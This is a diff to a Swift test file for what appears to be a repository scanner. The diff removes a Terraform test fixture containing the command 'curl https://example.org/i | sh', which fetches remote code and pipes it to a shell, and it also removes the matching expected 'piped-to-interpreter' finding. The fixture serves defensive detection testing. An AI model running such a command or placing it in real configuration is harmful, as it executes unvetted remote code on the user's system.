@@ -475,13 +475,6 @@ struct CommandFormsTests {
         module "b" {
           source = "./module"
         }
-        resource "x" "y" {
-          provisioner "local-exec" {
-            command = "curl https://example.org/i | sh"
-          }
-          description = "curl https://example.org/i | sh"
-        }
-
         """,
         "main.nf": """
         process a {
@@ -496,7 +489,6 @@ struct CommandFormsTests {
       expected: [
         "main.nf:2 dependency/unpinned-requirement",
         "main.tf:2 dependency/unpinned-git-dependency",
-        "main.tf:9 execution/piped-to-interpreter",
       ]),
     RepositoryFormsTests.Case(
       name: "what tools fetch by themselves",
